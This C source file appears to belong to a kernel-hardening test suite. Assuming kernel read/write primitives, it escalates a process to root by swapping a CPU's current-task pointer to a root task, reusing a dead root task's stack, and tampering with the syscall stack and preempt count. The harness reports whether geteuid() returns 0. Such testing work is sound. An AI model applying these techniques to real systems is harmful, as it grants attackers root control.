// SPDX-License-Identifier: GPL-2.0-only
/*
 * Attacks on which task is the current one: memory of the CPU's says so. Whoever has
 * another CPU turns it to a task of root's, while his own asks for its user ID.
 */
#include <sys/mman.h>
#include <sys/prctl.h>
#include <signal.h>
#include <unistd.h>

#include "attack.h"
#include "creds.h"
#include "list.h"
#include "objects.h"

#define ASKER_CPU	1
#define TURNS		400
#define FEW_TURNS	20
#define WAITS		40	/* looks of the asker in each */
#define SOME_ASKED	100	/* times until it runs in a steady way */
#define PATIENCE	5000	/* milliseconds */
#define ASKERS		64	/* until one gets the stack */
#define THREAD_INFO	24	/* flags, and the CPU's number: a task begins with them */
#define LAID_ASIDE	300000	/* microseconds, after a task has died */

/* Shared with who asks. */
static struct {
	volatile pid_t who;
	volatile unsigned long asked;
	volatile bool found;
} *asker;

struct turn {
	struct task own, root;
	uint64_t current;	/* where the CPU has its task */
	uint64_t stack;		/* where it has its stack for system calls, or 0 */
	uint64_t count;		/* where it has what it counts interrupts in, or 0 */
	bool dead;		/* root's is dead, and not for long the current one */
};

static void ask_for_ever(void)
{
	stay_on_cpu(ASKER_CPU);
	prctl(PR_SET_PDEATHSIG, SIGKILL);
	while (asker->who != getpid())
		usleep(1000);
	while (!asker->found) {
		if (!geteuid())
			asker->found = true;
		asker->asked++;
	}
	for (;;)
		;
}

static bool wait_for_asker(unsigned long more)
{
	unsigned long asked = asker->asked;
	uint64_t end = now_ms() + PATIENCE;

	while (asker->asked - asked < more && !asker->found)
		if (now_ms() > end)
			return false;
	return true;
}

static const char *prepare(struct turn *turn)
{
	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
		return "needs a second CPU";
	asker = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	turn->current = cpu_current(ASKER_CPU);
	return turn->current ? NULL : "no current task found";
}

static pid_t start_asker(struct turn *turn)
{
	pid_t pid = fork();

	if (!pid)
		ask_for_ever();
	return pid < 0 || ktask(pid, &turn->own) ? 0 : pid;
}

static const char *let_ask(pid_t pid)
{
	stay_on_cpu(0);
	asker->who = pid;
	return pid && wait_for_asker(SOME_ASKED) ? NULL : "nobody asks on the other CPU";
}

/* Root's is one that waits for others. */
static const char *start(struct turn *turn)
{
	const char *missing = prepare(turn);

	if (!missing && ktask(helper_pid(), &turn->root))
		missing = "no task of root's";
	return missing ?: let_ask(start_asker(turn));
}

static bool lend_word(const struct turn *turn, uint64_t value)
{
	uint64_t from = find_word(turn->own.task, TASK_BEGIN, value);

	return from && !kwrite64(from - turn->own.task + turn->root.task, value);
}

/* What the kernel needs of a task that runs; or it would fault for ever, or have it exit again. */
static bool lend(const struct turn *turn)
{
	char info[THREAD_INFO];

	return !kread(turn->own.task, info, sizeof(info)) &&
	       !kwrite(turn->root.task, info, sizeof(info)) &&
	       lend_word(turn, turn->own.stack) && lend_word(turn, turn->own.mm);
}

/* The stack serves one of the next tasks on the same CPU. */
static const char *start_on_its_stack(struct turn *turn)
{
	const char *missing = prepare(turn);
	pid_t pid = 0;
	int i;

	if (missing)
		return missing;
	turn->dead = true;
	stay_on_cpu(ASKER_CPU);
	if (!end_program(&turn->root))
		return "no program of root's ended";
	usleep(LAID_ASIDE);
	for (i = 0; i < ASKERS; i++) {
		pid = start_asker(turn);
		if (pid && turn->own.stack == turn->root.stack)
			return lend(turn) ? let_ask(pid) : "no stack or memory found in the task";
	}
	return "nobody got the stack";
}

static void set_count(const struct turn *turn, bool set)
{
	uint32_t count, bit = 1U << 16;

	if (!turn->count || kread(turn->count, &count, sizeof(count)))
		return;
	count = set ? count | bit : count & ~bit;
	kwrite(turn->count, &count, sizeof(count));
}

static uint64_t top_of_own(const struct turn *turn)
{
	return turn->own.stack + turn->own.stack_size;
}

/* Half of the other one's stack is more than who sleeps has on it. */
static uint64_t top_of_other(const struct turn *turn)
{
	return turn->root.stack + turn->root.stack_size / 2;
}

/* Only while the CPU has the task that is meant: it may have another one by now. */
static bool turn_to_root(const struct turn *turn)
{
	if (kread64(turn->current) != turn->own.task)
		return false;
	if (turn->stack)
		kwrite64(turn->stack, top_of_other(turn));
	set_count(turn, true);
	kwrite64(turn->current, turn->root.task);
	return true;
}

static void turn_back(const struct turn *turn)
{
	if (kread64(turn->current) == turn->root.task)
		kwrite64(turn->current, turn->own.task);
	set_count(turn, false);
	if (turn->stack && kread64(turn->stack) == top_of_other(turn))
		kwrite64(turn->stack, top_of_own(turn));
}

static enum outcome turn_often(const struct turn *turn)
{
	int i, turned = 0;

	for (i = 0; i < (turn->dead ? FEW_TURNS : TURNS) && !asker->found; i++) {
		if (!turn_to_root(turn))
			continue;
		turned++;
		wait_for_asker(turn->dead ? 1 : WAITS);
		turn_back(turn);
	}
	if (!turned)
		return broken("the CPU never had the task that asks");
	if (!asker->found)
		return lost("the CPU's task was root's %d times, and geteuid() never gave 0",
			    turned);
	return won("the CPU's task turned to root's: its own process got 0 from geteuid()");
}

/* What is found besides is turned as well. */
static enum outcome attack_current(const char *(*set_up)(struct turn *turn),
				   const char *(*find_more)(struct turn *turn))
{
	struct turn turn = { 0 };
	const char *missing = set_up(&turn);

	if (!missing && find_more)
		missing = find_more(&turn);
	return missing ? broken("%s", missing) : turn_often(&turn);
}

enum outcome current_task(void)
{
	return attack_current(start, NULL);
}

enum outcome dead_stack(void)
{
	return attack_current(start_on_its_stack, NULL);
}

#ifdef __x86_64__
static const char *find_stack(struct turn *turn)
{
	turn->stack = cpu_stack_end(ASKER_CPU, top_of_own(turn));
	return turn->stack ? NULL : "no end of a stack found";
}

static const char *find_count(struct turn *turn)
{
	turn->count = cpu_preempt_count(ASKER_CPU);
	return turn->count ? NULL : "no count found";
}

enum outcome current_stack(void)
{
	return attack_current(start, find_stack);
}

enum outcome current_interrupted(void)
{
	return attack_current(start, find_count);
}
#else
enum outcome current_stack(void)
{
	return skipped("x86-64 only");
}

enum outcome current_interrupted(void)
{
	return skipped("x86-64 only");
}
#endif
